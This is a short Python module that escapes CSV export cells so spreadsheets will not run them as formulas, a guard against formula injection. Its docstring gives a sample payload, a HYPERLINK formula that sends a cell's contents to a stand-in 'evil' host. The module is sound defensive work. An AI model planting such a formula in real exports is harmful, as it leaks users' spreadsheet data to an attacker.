"""CSV cells that a spreadsheet will not run as a formula (CSV / formula injection).

Excel, LibreOffice and Google Sheets treat a cell that starts with = + - @ (or a tab / carriage return
before one) as a formula; an asset tag or room name such as ``=HYPERLINK("http://evil/?"&A1)`` would
run when a user opens the export. Every CSV export writes its text cells through ``safe_cell``, which
puts a ``'`` in front of such values: spreadsheets show the text as it is.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value):
    """``value`` unchanged unless it is text a spreadsheet would evaluate; then prefixed with '."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value
